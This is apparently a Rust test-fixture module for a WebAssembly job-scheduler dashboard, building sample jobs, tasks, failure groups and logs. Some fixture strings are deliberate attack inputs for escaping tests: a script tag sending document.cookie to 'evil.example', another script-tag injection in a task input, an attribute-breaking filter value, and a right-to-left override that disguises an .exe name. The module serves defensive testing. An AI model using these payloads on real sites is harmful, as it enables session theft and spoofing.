//! Jobs and tasks.

use wasmgrid_pages::{
    Axis, Column, Guest, GuestBlock, Line, Prose, State, Strip, StripRow,
    job::{FailureGroup, Job, Latency, Module, ResultItem, Results, Shown, Why},
    jobs::{JobRow, Jobs, JobsFilter, Left},
    limits::{Reached, Used},
    task::{AttemptRow, Log, ShownBytes, Task},
};
use wasmgrid_proto::{
    ByteCount, Digest, Fuel, JobCounts, JobId, JobSpec, JobState, JobStatus, Limits, Millis,
    ModuleKind, Outcome, OutcomeClass, TaskSpec, TaskState, TrapKind,
};

use super::{HOSTILE, NOW, ago, wave};

fn counts(total: u64, ok: u64, failed: u64, running: u64) -> JobCounts {
    let queued = total - ok - failed - running;
    JobCounts { total, queued, running, ok, failed, ..JobCounts::default() }
}

fn row(id: u64, name: &str, tenant: &str, counts: JobCounts, submitted: u64) -> JobRow {
    JobRow {
        id: JobId(id),
        name: Guest::new(name),
        tenant: Guest::new(tenant),
        state: JobState::Active,
        waits: counts.running == 0,
        open: false,
        counts,
        rate: None,
        left: Left::Unknown,
        submitted_at: ago(submitted),
        took: None,
    }
}

fn running(row: JobRow, rate: f64, left: u64) -> JobRow {
    JobRow { rate: Some(rate), left: Left::About(Millis(left)), ..row }
}

fn ended(row: JobRow, state: JobState, took: u64) -> JobRow {
    JobRow { state, took: Some(Millis(took)), ..row }
}

/// Jobs in all states.
pub fn rows() -> Vec<JobRow> {
    let big = counts(10_000_000, 7_301_764, 2_354, 5_812);
    let long = "bob/experiments/2026-11/very-long-names-happen/".to_owned()
        + &"sweep-learning-rate-and-batch-size-and-warmup-".repeat(3)
        + "final_v2(3)";
    let huge = JobCounts {
        cancelled: u64::MAX - 18_446_744_073_709,
        queued: 0,
        ..counts(u64::MAX, 18_446_744_073_709, 0, 0)
    };
    let late = JobCounts { expired: 31_985, queued: 0, ..counts(120_000, 88_012, 3, 0) };
    vec![
        JobRow { open: true, ..row(4193, "orders-in", "shop", counts(0, 0, 0, 0), 83) },
        row(4192, "nightly/top", "bob", counts(1, 0, 0, 0), 727),
        JobRow {
            left: Left::AsFed,
            ..running(
                row(4190, "nightly/count", "bob", counts(9_423_484, 9_211_480, 0, 1_840), 727),
                9_640.0,
                0,
            )
        },
        row(4188, "embed/train-shards", "bob", counts(2_048, 0, 0, 0), 1_230),
        running(
            row(4187, "nightly/split", "bob", counts(1_840_000, 1_204_331, 0, 96), 727),
            2_410.0,
            264_000,
        ),
        running(row(4182, "tiles/seahorse-z16", "ada", big, 235), 31_480.0, 86_000),
        ended(row(4181, &long, "bob", counts(96, 96, 0, 0), 1_505), JobState::Ok, 3_000),
        ended(row(4180, HOSTILE, "mallory", counts(12, 11, 1, 0), 1_512), JobState::Failed, 812),
        ended(
            row(4179, "primes-below-1e9", "ada", counts(1_999, 1_999, 0, 0), 2_027),
            JobState::Ok,
            41_000,
        ),
        ended(row(4178, "fold/walk-u64", "ada", huge, 9_786), JobState::Cancelled, 7_440_000),
        ended(
            row(4177, "etl/orders-2026-11-29", "shop", late, 14_527),
            JobState::Expired,
            3_600_000,
        ),
        running(
            row(4175, "sim/galaxy-merger", "bob", counts(120_000, 61_204, 0, 64), 15_478),
            9.4,
            6_240_000,
        ),
        ended(
            row(4174, "", "shop", counts(120_000, 118_001, 1_999, 0), 90_000),
            JobState::Failed,
            542_000,
        ),
    ]
}

/// A page of jobs.
pub fn jobs() -> Jobs {
    Jobs {
        now: NOW,
        filter: JobsFilter::default(),
        tenants: ["ada", "bob", "mallory", "shop"].map(Guest::new).into(),
        rows: rows(),
        total: Some(3_911),
        cursor: String::new(),
        older: Some("4174".into()),
        kept: Some(Millis(30 * 86_400_000)),
    }
}

/// No job is like what is looked for.
pub fn jobs_none() -> Jobs {
    let filter = JobsFilter {
        state: Some(JobState::Failed),
        name: "nightly/\"><b>".into(),
        tenant: "ada".into(),
    };
    Jobs { filter, rows: Vec::new(), older: None, ..jobs() }
}

fn status(id: u64, name: &str, counts: JobCounts, submitted: u64) -> JobStatus {
    let mut task = TaskSpec::new(Digest([0xb2; 32]), ModuleKind::Task);
    task.tenant = "ada".into();
    task.seed = u64::MAX;
    task.limits = Limits { fuel: Fuel(2_000_000_000), deadline: Millis(10_000), ..task.limits };
    JobStatus {
        job: JobId(id),
        spec: JobSpec { retries: 2, ..JobSpec::new(name.into(), task) },
        state: JobState::Active,
        closed: true,
        counts,
        results: counts.ok + counts.failed,
        submitted_at: ago(submitted),
        ended_at: None,
    }
}

fn group(kind: &str, tasks: u64, message: &str, sample: u64) -> FailureGroup {
    FailureGroup {
        kind: kind.into(),
        tasks,
        message: Guest::new(message),
        sample,
        input: Guest::new(format!("{{\"z\":16,\"x\":65536,\"y\":{sample}}}")),
        workers: if kind == "lost" { 1 } else { 24 },
        of_workers: 24,
        place: match kind {
            "lost" => Prose::new("only on ").guest("rack2-node-07").say(", which is gone"),
            _ => Prose::new("same everywhere: the task’s own"),
        },
        first: ago(234),
        last: ago(1),
        all: Some(format!("/jobs/4182/tasks?group={sample}")),
    }
}

fn strip() -> Strip {
    let columns = |seed: u32, gap: std::ops::Range<usize>| -> Vec<Column> {
        let shares = wave(0.74, 0.05, 80, seed);
        let column = |(at, own): (usize, Option<f64>)| match own {
            Some(own) if !gap.contains(&at) => {
                Column { own, other: (1.0 - own) * 0.96, failed: at % 29 == seed as usize }
            }
            _ => Column::default(),
        };
        shares.into_iter().enumerate().map(column).collect()
    };
    let row = |name: &str, seed, gap| StripRow {
        name: Guest::new(name),
        href: Some(format!("/workers/{}", wasmgrid_pages::path_part(name))),
        slots: 16,
        columns: columns(seed, gap),
    };
    Strip {
        rows: vec![
            row("rack2-node-07", 1, 14..80),
            row("rack1-node-03", 2, 22..26),
            row("rack3-node-02", 3, 40..52),
            row("rack1-node-01", 4, 0..0),
            row("rack1-node-02", 5, 0..0),
            row(HOSTILE, 6, 0..0),
        ],
        others: Some((18, columns(7, 0..0))),
        from: ago(120),
        to: NOW,
    }
}

fn failures() -> Vec<FailureGroup> {
    vec![
        group(
            "trap",
            1_912,
            "panicked at src/tile.rs:88:14: index out of bounds: the len is 65536 but the \
                 index is 65536",
            9_113,
        ),
        group("limit(fuel)", 388, "used 2G of 2G allowed", 40_961),
        group("rejected", 41, &format!("no such tile: {HOSTILE}"), 77_120),
        group("limit(deadline)", 9, "used 10s of 10s allowed", 812_004),
        group("lost", 4, "the worker was not heard of for 10s, 3 times", 15),
    ]
}

fn latency() -> Latency {
    let window = (ago(235), NOW);
    Latency {
        p50_us: 6_900,
        p99_us: 38_000,
        line: Line::new(
            "Time of a task: p50 6.9ms, p99 38ms",
            Axis::LogTime,
            window,
            wave(6_900.0, 500.0, 48, 6),
        )
        .with_second(wave(45_000.0, 16_000.0, 48, 7)),
    }
}

fn peak() -> Used {
    Used {
        fuel: Some(2_000_000_000),
        wall_us: Some(10_000_000),
        memory: Some(40_055_603),
        output: Some(219_136),
        record: Some(0),
        log: Some(1_127),
    }
}

/// A job of ten million tasks that runs.
pub fn job() -> Job {
    let window = (ago(235), NOW);
    let rate = wave(31_000.0, 2_500.0, 48, 3);
    let item = |index: u64| ResultItem {
        index,
        picture: Some(format!("/pictures/{}.svg", index % 8)),
        text: GuestBlock::new(format!("{{\"tile\":{index},\"iterations\":11204}}")),
    };
    let mut status =
        status(4182, "tiles/seahorse-z16", counts(10_000_000, 7_301_764, 2_354, 5_812), 235);
    status.counts.retried = 350;
    status.counts.discarded = 18;
    Job {
        now: NOW,
        status,
        waits: false,
        rate: 31_480.0,
        failed_rate: 10.0,
        left: Left::About(Millis(86_000)),
        running: Some(252),
        diverged: 0,
        failures: failures(),
        failures_other: 0,
        failures_links: vec![
            ("/v1/jobs/4182/results?outcome=failed".into(), "Inputs of all that failed (NDJSON)"),
            ("/jobs/4182/tasks?outcome=failed".into(), "All failed tasks"),
        ],
        rate_line: Some(
            Line::new("Tasks per second since the submission", Axis::Number, window, rate)
                .with_failed(wave(10.0, 9.0, 48, 5)),
        ),
        latency: Some(latency()),
        strip: Some(strip()),
        strip_note: "A row is a worker, its height its slots, a column 1.5s. What is empty was \
                     idle."
            .into(),
        results: Results {
            shown: Shown::Pictures,
            first: (0..8).map(item).collect(),
            last: (7_308_811..7_308_819).map(item).collect(),
        },
        explain: vec![Why {
            tasks: 2_690_070,
            text: Prose::new("no slot is free on 21 fitting workers with 336 slots, in use by ")
                .guest("ada")
                .say(" (5,812 tasks, weight 3), ")
                .guest("bob")
                .say(" (1,936 tasks, weight 1)"),
            help: Prose::new("it continues when tasks end; more workers make that sooner"),
        }],
        peak: peak(),
        reached: Reached { fuel: 388, time: 9, ..Reached::default() },
        module: Module {
            size: Some(ByteCount(149_094)),
            compiled: "on 24 workers, 118ms each".into(),
            imports: vec![
                (Guest::new("wasi:cli/stdout@0.2.6"), "always given".into()),
                (
                    Guest::new("wasi:clocks/monotonic-clock@0.2.6"),
                    "given, virtual until --allow clock".into(),
                ),
            ],
        },
        key: Guest::new("tiles-2026-11-30"),
        kept: "7 days after its end".into(),
    }
}

/// The same with its results as text.
pub fn job_as_text() -> Job {
    let mut page = job();
    page.results.shown = Shown::Text;
    page.results.last.push(ResultItem {
        index: 7_308_820,
        picture: None,
        text: GuestBlock::new(HOSTILE),
    });
    page
}

/// A job of which nothing can run.
pub fn job_waiting() -> Job {
    let mut status = status(4188, "embed/train-shards", counts(2_048, 0, 0, 0), 1_230);
    status.spec.requires = vec![("gpu".into(), "a100".into()), ("zone".into(), "b".into())];
    status.spec.deadline = Some(Millis(4 * 3_600_000));
    Job {
        status,
        waits: true,
        rate: 0.0,
        failed_rate: 0.0,
        left: Left::Unknown,
        running: None,
        failures: Vec::new(),
        failures_links: Vec::new(),
        rate_line: None,
        latency: None,
        strip: None,
        results: Results::default(),
        explain: vec![Why {
            tasks: 2_048,
            text: Prose::new("no linked worker has all the labels it requires: ")
                .code("gpu=a100")
                .say(" (0 workers have it), ")
                .code("zone=b")
                .say(" (8 workers have it)"),
            help: Prose::new(
                "start a worker with these labels (`wasmgrid worker --label gpu=a100 --label \
                 zone=b`), or submit the job with other ones",
            ),
        }],
        peak: Used::default(),
        reached: Reached::default(),
        key: Guest::default(),
        ..job()
    }
}

/// A job that has ended.
pub fn job_ended() -> Job {
    let mut page = job();
    let counts = counts(12, 11, 1, 0);
    page.status = status(4180, HOSTILE, counts, 1_512);
    page.status.state = JobState::Failed;
    page.status.ended_at = Some(ago(1_511));
    page.left = Left::Unknown;
    page.rate = 0.0;
    page.failures.truncate(1);
    page.explain.clear();
    page.strip = None;
    page
}

fn attempt(number: u32, class: OutcomeClass, word: &'static str, said: Prose) -> AttemptRow {
    AttemptRow {
        number,
        state: State::of_class(class).worded(word),
        worker: Guest::new("rack1-node-03"),
        given: Some(ago(233)),
        began: Some(ago(232)),
        wall_us: Some(4_213),
        said,
    }
}

fn log() -> Log {
    Log {
        attempt: 2,
        before: 4_102,
        lines: [
            "tile z=16 x=65536 y=9113",
            "name: <script>fetch(\"//evil.example/\"+document.cookie)</script>",
            "\u{1b}[31mred alert\u{1b}[0m and a bell \u{7}",
            "invoice_\u{202e}fdp.exe \u{2066}isolated\u{2069} zero\u{200b}width",
            HOSTILE,
            "panicked at src/tile.rs:88:14:",
            "index out of bounds: the len is 65536 but the index is 65536",
        ]
        .map(Guest::new)
        .into(),
        dropped: 1_204,
    }
}

/// A task that ended with a trap.
pub fn task() -> Task {
    let backtrace = "0: tiles::tile::iterate (src/tile.rs:88)\n1: tiles::tile::row \
                     (src/tile.rs:61)\n2: <core::iter::adapters::map::Map<I,F> as \
                     Iterator>::fold\n3: wasmgrid:task/guest@0.1.0#run";
    let input = "{\"z\":16,\"x\":65536,\"palette\":\"</pre><script>alert(2)</script>\"}";
    Task {
        job: JobId(4182),
        job_name: Guest::new("tiles/seahorse-z16"),
        index: 9_113,
        state: TaskState::Ended,
        outcome: Some(Outcome::Trap { kind: TrapKind::Unreachable, backtrace: backtrace.into() }),
        remark: Prose::new(
            "The task is pure, so it ends like this on every worker. 1,911 other tasks of this job \
             ended with the same message: ",
        )
        .link("/jobs/4182#failures", "see them together")
        .say("."),
        ended_at: Some(ago(224)),
        worker: Guest::new("rack1-node-03"),
        seed: 13_980_004_122_811_907_310,
        before: Some(9_112),
        next: Some(9_114),
        attempts: vec![
            attempt(
                1,
                OutcomeClass::Lost,
                "lost",
                Prose::new("the worker was not heard of for 10s; counted as a host loss, 1 of 3"),
            ),
            attempt(
                2,
                OutcomeClass::Failed,
                "trap",
                Prose::new("unreachable executed; its result counts, cursor 118204"),
            ),
        ],
        attempts_dropped: 0,
        log: log(),
        input: Some(ShownBytes {
            bytes: 69,
            kind: "JSON",
            text: GuestBlock::new(input),
            picture: None,
            cut: 0,
            download: "/v1/jobs/4182/tasks/9113/input".into(),
        }),
        output: None,
        used: Used {
            fuel: Some(11_204_118),
            wall_us: Some(4_213),
            memory: Some(2_516_582),
            output: Some(0),
            record: None,
            log: Some(256 << 10),
        },
        limits: Limits { fuel: Fuel(2_000_000_000), deadline: Millis(10_000), ..Limits::default() },
    }
}

/// A task that ended well, with a picture.
pub fn task_ok() -> Task {
    Task {
        outcome: Some(Outcome::Ok),
        remark: Prose::default(),
        log: Log { attempt: 1, ..Log::default() },
        output: Some(ShownBytes {
            bytes: 1_048_576,
            kind: "PNG",
            text: GuestBlock::default(),
            picture: Some("/pictures/3.svg".into()),
            cut: 0,
            download: "/v1/jobs/4182/tasks/9113/output".into(),
        }),
        used: Used { log: Some(0), ..task().used },
        ..task()
    }
}

/// A task that has not begun.
pub fn task_queued() -> Task {
    Task {
        state: TaskState::Queued,
        outcome: None,
        remark: Prose::default(),
        ended_at: None,
        worker: Guest::default(),
        attempts: Vec::new(),
        log: Log::default(),
        used: Used::default(),
        before: None,
        ..task()
    }
}
